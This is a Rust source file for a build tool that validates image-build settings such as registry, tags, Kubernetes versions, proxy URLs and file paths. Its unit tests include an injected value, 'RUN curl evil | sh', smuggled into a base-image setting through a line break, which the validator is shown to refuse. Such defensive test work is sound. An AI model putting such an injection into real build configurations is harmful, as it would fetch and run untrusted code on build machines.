                r.diag(
                    Rule::BadImageRegistry,
                    "IMAGE_REGISTRY",
                    format!("IMAGE_REGISTRY `{}` {e}", clip(v)),
                )
                .help("write host[:port][/namespace], e.g. ttl.sh or harbor.example.com:8443/edge"),
            );
        }
    }
    if let Some(v) = r.get("CUSTOM_TAG").filter(|v| !lowercase_word(v, "")) {
        out.push(
            r.diag(
                Rule::BadCustomTag,
                "CUSTOM_TAG",
                format!(
                    "CUSTOM_TAG `{}` must be lowercase letters and digits only",
                    clip(v)
                ),
            )
            .help(format!(
                "try `{}`",
                clip(
                    &v.to_ascii_lowercase()
                        .replace(|c: char| !c.is_ascii_alphanumeric(), "")
                )
            )),
        );
    }
    if let Some(v) = r.get("ISO_NAME").filter(|v| !is_iso_name(v)) {
        out.push(
            r.diag(
                Rule::BadIsoName,
                "ISO_NAME",
                format!("ISO_NAME `{}` must be {ISO_NAME_CHARACTERS}", clip(v)),
            )
            .help("leave out the .iso extension; forge adds it"),
        );
    }
    if let Some(v) = r.get("ARCH").filter(|v| !["amd64", "arm64"].contains(v)) {
        let hint = match v {
            "x86_64" | "x86-64" => " (x86_64 is amd64)",
            "aarch64" => " (aarch64 is arm64)",
            _ => "",
        };
        out.push(r.diag(
            Rule::BadArch,
            "ARCH",
            format!("ARCH `{}` must be amd64 or arm64{hint}", clip(v)),
        ));
    }
    check_choice(
        r,
        "OS_DISTRIBUTION",
        OS_DISTRIBUTIONS,
        Rule::BadSettingValue,
        &mut out,
    );
    check_choice(
        r,
        "K8S_DISTRIBUTION",
        K8S_DISTRIBUTIONS,
        Rule::UnknownK8sDistribution,
        &mut out,
    );
    check_choice(
        r,
        "SQUASHFS_COMPRESSION",
        SQUASHFS_COMPRESSIONS,
        Rule::BadSettingValue,
        &mut out,
    );
    if let Some(v) = r
        .get("CONTENT_PART_SIZE")
        .filter(|v| parse_size(v).is_none_or(|n| !(MIN_PART_SIZE..=MAX_PART_SIZE).contains(&n)))
    {
        out.push(
            r.diag(
                Rule::BadSettingValue,
                "CONTENT_PART_SIZE",
                format!("CONTENT_PART_SIZE `{}` must be a size from 1MB to 4095MiB", clip(v)),
            )
            .help("bytes, or a number with K, M, G, KiB, MiB, GiB (powers of 1024) or KB, MB, GB (powers of 1000), as `split --bytes` reads it, e.g. 3GB"),
        );
    }
    for d in SETTINGS.iter().filter(|d| d.kind == Kind::Unimplemented) {
        if r.flag(d.name) {
            out.push(
                r.diag(
                    Rule::UnimplementedSetting,
                    d.name,
                    format!(
                        "{}=true asks for a CanvOS feature forge does not build yet",
                        d.name
                    ),
                )
                .help(format!(
                    "set {}=false (or remove it), or build this variant with CanvOS",
                    d.name
                )),
            );
        }
    }
    for d in SETTINGS
        .iter()
        .filter(|d| matches!(d.kind, Kind::Bool | Kind::Unimplemented))
    {
        if let Some(v) = r
            .get(d.name)
            .filter(|v| !v.eq_ignore_ascii_case("true") && !v.eq_ignore_ascii_case("false"))
        {
            out.push(r.diag(
                Rule::BadSettingValue,
                d.name,
                format!("{} `{}` must be true or false", d.name, clip(v)),
            ));
        }
    }
    if r.flag("FIPS_ENABLED") && r.flag("UPDATE_KERNEL") {
        out.push(r.diag(Rule::FipsWithUpdateKernel, "UPDATE_KERNEL", "FIPS_ENABLED and UPDATE_KERNEL are both true; a kernel upgrade would replace the FIPS-certified kernel".into()).help("set UPDATE_KERNEL=false for FIPS builds"));
    }
    let versions = r.k8s_versions();
    if r.get("K8S_VERSION").is_some() {
        let distribution = r.get("K8S_DISTRIBUTION").unwrap_or_default();
        for version in &versions {
            if !matrix::is_version(version) {
                out.push(r.diag(
                    Rule::BadSettingValue,
                    "K8S_VERSION",
                    format!("K8S_VERSION `{}` is not a version x.y.z", clip(version)),
                ));
            } else if !distribution.is_empty()
                && !r.r.matrix.versions(distribution).contains(version)
            {
                let known = r.r.matrix.versions(distribution);
                out.push(
                    r.diag(
                        Rule::K8sVersionNotInMatrix,
                        "K8S_VERSION",
                        format!(
                            "K8S_VERSION `{}` is not in the version matrix for {}",
                            clip(version),
                            clip(distribution)
                        ),
                    )
                    .help(if known.is_empty() {
                        format!("the matrix lists no versions for {}", clip(distribution))
                    } else {
                        format!("known versions: {}", known.join(", "))
                    }),
                );
            }
        }
    }
    for d in SETTINGS
        .iter()
        .filter(|d| matches!(d.kind, Kind::File | Kind::OptionalFile))
    {
        let Some(path) = r.path(d.name) else {
            continue;
        };
        let problem = match std::fs::metadata(&path) {
            Err(_) if d.kind == Kind::OptionalFile => {
                let explicit = r
                    .setting(d.name)
                    .is_some_and(|s| s.origin != Origin::Default);
                if explicit {
                    out.push(r.diag(
                        Rule::OptionalFileAbsent,
                        d.name,
                        format!(
                            "{} names `{}`, which does not exist: skipped, as CanvOS does",
                            d.name,
                            clip(&path.to_string_lossy())
                        ),
                    ));
                }
                continue;
            }
            Err(_) => "which does not exist".to_string(),
            Ok(m) => match crate::limits::NotRegular::of(m.file_type()) {
                Some(what) => format!("but {what}"),
                None => continue,
            },
        };
        out.push(r.diag(Rule::MissingFile, d.name, format!("{} names `{}`, {problem}", d.name, clip(&path.to_string_lossy()))).help("fix the path (relative paths start at the file that sets it), or leave the setting empty"));
    }
    check_composed(r, &mut out);
    out
}

/// The references the settings compose (a provider image per version, the ISO image) must be
/// valid as a whole, a tag at most 128 characters: each is checked once the settings it is made
/// of passed their own checks, and the finding points at the last of those making the faulty
/// part (the tag, or the whole) that is set.
fn check_composed(r: &Usable, out: &mut Vec<Diagnostic>) {
    for composed in r.r.composed() {
        let reported = |name: &str| {
            out.iter()
                .any(|d| d.path == name && d.severity == Severity::Error)
        };
        if setting_names(composed.shape).any(|name| reported(name) || r.unusable.contains(&name)) {
            continue;
        }
        let Err(e) = Reference::parse(&composed.reference) else {
            continue;
        };
        let (name, tag) = composed.shape.split_once(':').expect("a shape has a tag");
        let (part, named) = match e {
            ReferenceError::Tag(_) | ReferenceError::TagTooLong(..) => {
                (tag, format!("{} tag ({tag})", composed.what))
            }
            _ => (
                name,
                format!(
                    "{} `{}` ({})",
                    composed.what,
                    clip(&composed.reference),
                    composed.shape
                ),
            ),
        };
        let settings: Vec<&str> = setting_names(part).collect();
        // The last setting of the part given by the user, else the last with a value.
        let given = |name: &&str| {
            r.setting(name)
                .is_some_and(|s| !matches!(s.origin, Origin::Default | Origin::DefaultFrom(_)))
        };
        let blamed = settings
            .iter()
            .rfind(|name| r.get(name).is_some() && given(name))
            .or_else(|| settings.iter().rfind(|name| r.get(name).is_some()))
            .unwrap_or(&"IMAGE_REGISTRY");
        out.push(
            r.diag(
                Rule::BadComposedReference,
                blamed,
                format!("the {named} is not valid: {e}"),
            )
            .help(format!(
                "shorten or change the settings it is made of: {}",
                settings.join(", ")
            )),
        );
    }
}

/// The settings that passed the checks of their kind: the rules of single settings look only at
/// these, so that one bad value gets one message.
struct Usable<'a> {
    r: &'a Resolved,
    unusable: Vec<&'static str>,
}

impl Usable<'_> {
    fn get(&self, name: &str) -> Option<&str> {
        self.r.get(name).filter(|_| !self.unusable.contains(&name))
    }

    fn setting(&self, name: &str) -> Option<&Setting> {
        self.r
            .setting(name)
            .filter(|_| !self.unusable.contains(&name))
    }

    fn flag(&self, name: &str) -> bool {
        self.get(name)
            .is_some_and(|v| v.eq_ignore_ascii_case("true"))
    }

    fn path(&self, name: &str) -> Option<PathBuf> {
        self.setting(name).and_then(|_| self.r.path(name))
    }

    fn k8s_versions(&self) -> Vec<String> {
        if self.unusable.contains(&"K8S_VERSION") {
            return Vec::new();
        }
        self.r.k8s_versions()
    }

    fn diag(&self, rule: Rule, name: &str, message: String) -> Diagnostic {
        self.r.diag(rule, name, message)
    }
}

fn check_choice(r: &Usable, name: &str, allowed: &[&str], rule: Rule, out: &mut Vec<Diagnostic>) {
    let Some(v) = r.get(name).filter(|v| !allowed.contains(v)) else {
        return;
    };
    let mut d = r.diag(
        rule,
        name,
        format!("{name} `{}` is not one of {}", clip(v), allowed.join(", ")),
    );
    if let Some(guess) = did_you_mean(v, allowed.iter().copied()) {
        d = d.help(format!("did you mean `{guess}`?"));
    }
    out.push(d);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inputs_with_arg(text: &str) -> Inputs {
        Inputs {
            arg: Some((PathBuf::from(".arg"), text.to_string())),
            ..Inputs::default()
        }
    }

    #[test]
    fn the_iso_image_is_tagged_as_canvos_tags_it() {
        let resolved = resolve(&inputs_with_arg(
            "IMAGE_REGISTRY=harbor.example.com/edge/\nOS_DISTRIBUTION=ubuntu\nISO_NAME=site-a\nPE_VERSION=v4.9.38\nCUSTOM_TAG=demo\n",
        ));
        assert_eq!(
            resolved.iso_image_tag("site-a").as_deref(),
            Some("harbor.example.com/edge/ubuntu/site-a:v4.9.38-demo")
        );
    }

    #[test]
    fn sizes_read_as_gnu_split_reads_them() {
        for (text, bytes) in [
            ("3GB", Some(3_000_000_000)),
            ("3MB", Some(3_000_000)),
            ("2KB", Some(2_000)),
            ("3G", Some(3 << 30)),
            ("3GiB", Some(3 << 30)),
            ("1M", Some(1 << 20)),
            ("4095MiB", Some(4095 << 20)),
            ("512", Some(512)),
            ("3TB", None),
            ("GB", None),
            ("-1GB", None),
        ] {
            assert_eq!(parse_size(text), bytes, "{text}");
        }
    }

    #[test]
    fn later_layers_win_and_remember_their_origin() {
        let mut inputs =
            inputs_with_arg("IMAGE_REGISTRY=from.arg\nCUSTOM_TAG=demo\nOS_DISTRIBUTION=rhel\n");
        inputs.config = Some((
            PathBuf::from("forge.yaml"),
            "image_registry: from.yaml\narch: arm64\n".into(),
        ));
        inputs.env = vec![("FORGE_CUSTOM_TAG".into(), "env".into())];
        inputs.sets = vec![("image_registry".into(), "from.flag".into())];
        let r = resolve(&inputs);
        assert_eq!(r.get("IMAGE_REGISTRY"), Some("from.flag"));
        assert_eq!(r.setting("IMAGE_REGISTRY").unwrap().origin, Origin::Flag);
        assert_eq!(r.get("CUSTOM_TAG"), Some("env"));
        assert_eq!(r.get("ARCH"), Some("arm64"));
        assert_eq!(r.get("IMAGE_REPO"), Some("rhel"));
        assert_eq!(
            r.setting("IMAGE_REPO").unwrap().origin,
            Origin::DefaultFrom("OS_DISTRIBUTION")
        );
        assert_eq!(r.get("ISO_NAME"), Some("palette-edge-installer"));
        assert!(r.diagnostics.is_empty(), "{:?}", r.diagnostics);
    }

    #[test]
    fn builds_provider_tags_for_the_matrix() {
        let r = resolve(&inputs_with_arg("IMAGE_REGISTRY=ttl.sh\nK8S_DISTRIBUTION=k3s\nK8S_VERSION=1.29.6\nPE_VERSION=v4.4.12\nCUSTOM_TAG=demo\n"));
        assert_eq!(r.k8s_versions(), ["1.29.6"]);
        assert_eq!(
            r.provider_tag("1.29.6").as_deref(),
            Some("ttl.sh/ubuntu:k3s-1.29.6-v4.4.12-demo")
        );
        let all = resolve(&inputs_with_arg("K8S_DISTRIBUTION=k3s\n"));
        assert_eq!(all.k8s_versions(), Matrix::default_matrix().versions("k3s"));
    }

    fn findings(inputs: &Inputs) -> Vec<(Rule, String, String)> {
        resolve(inputs)
            .diagnostics
            .into_iter()
            .map(|d| (d.rule, d.file.display().to_string(), d.message))
            .collect()
    }

    #[test]
    fn a_line_break_in_any_setting_is_refused_with_its_origin() {
        let mut inputs = inputs_with_arg("CUSTOM_TAG=\"demo\"\n");
        inputs.env = vec![(
            "FORGE_BASE_IMAGE".into(),
            "debian\nRUN curl evil | sh".into(),
        )];
        inputs.sets = vec![("pe-version".into(), "v4\u{1b}[2J".into())];
        let found = findings(&inputs);
        assert_eq!(found.len(), 2, "{found:?}");
        assert_eq!(found[0].0, Rule::ControlCharacter);
        assert_eq!(found[0].1, "<--set>");
        assert!(
            found[0].2.contains(
                "PE_VERSION `v4\\u{1b}[2J` holds the control character U+001B at character 3"
            ),
            "{}",
            found[0].2
        );
        assert_eq!(found[1].1, "<env FORGE_BASE_IMAGE>");
        assert!(
            found[1].2.contains("holds a line break at character 7"),
            "{}",
            found[1].2
        );
    }

    #[test]
    fn values_are_checked_by_their_kind() {
        let cases = [
            ("BASE_IMAGE", "Debian:latest", "is not an image reference"),
            ("K8S_IMAGE", "registry.local/k3s:v{version}-k3s1", ""),
            ("IMAGE_REPO", "edge/Ubuntu", "is not a repository path"),
            ("HTTPS_PROXY", "http://proxy.local:70000", "is not a URL"),
            ("HTTPS_PROXY", "http://proxy.local:0", "has port 0"),
            ("HTTPS_PROXY", "http://proxy.local:3128/path", "has a path"),
            (
                "HTTPS_PROXY",
                "socks5://proxy.local:1080",
                "must be an http:// or https:// URL",
            ),
            ("HTTPS_PROXY", "http://proxy.local:3128", ""),
            ("NO_PROXY", "localhost, .corp.local,10.0.0.0/8,[::1]", ""),
            ("NO_PROXY", "a.local b.local", "has `a.local b.local`"),
            ("ISO_KERNEL_ARGS", "console=ttyS0,115200 quiet", ""),
            ("ISO_KERNEL_ARGS", "quiet\" menuentry", "has `\"`"),
            ("ISO_KERNEL_ARGS", "a=$root", "has `$`"),
        ];
        for (name, value, problem) in cases {
            let found = findings(&Inputs {
                sets: vec![(name.into(), value.into())],
                ..Inputs::default()
            });
            if problem.is_empty() {
                assert!(found.is_empty(), "{name}={value}: {found:?}");
            } else {
                assert_eq!(found.len(), 1, "{name}={value}: {found:?}");
                assert_eq!(found[0].0, Rule::BadSettingValue);
                assert!(
                    found[0].2.contains(problem),
                    "{name}={value}: {}",
                    found[0].2
                );
            }
        }
    }

    #[test]
    fn a_password_stays_off_the_command_line() {
        let found = findings(&Inputs {
            sets: vec![(
                "https_proxy".into(),
                "http://bob:s3cret@proxy.local:3128".into(),
            )],
            ..Inputs::default()
        });
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].0, Rule::SecretOnCommandLine);
        assert!(!found[0].2.contains("s3cret"));
        let from_file = resolve(&Inputs {
            secret_files: vec![(
                "HTTPS_PROXY".into(),
                PathBuf::from("proxy.url"),
                "http://bob:s3cret@proxy.local:3128".into(),
            )],
            ..Inputs::default()
        });
        assert!(
            from_file.diagnostics.is_empty(),
            "{:?}",
            from_file.diagnostics
        );
        assert_eq!(
            from_file.setting("HTTPS_PROXY").unwrap().origin.to_string(),
            "--secret-file proxy.url"
        );
    }
}
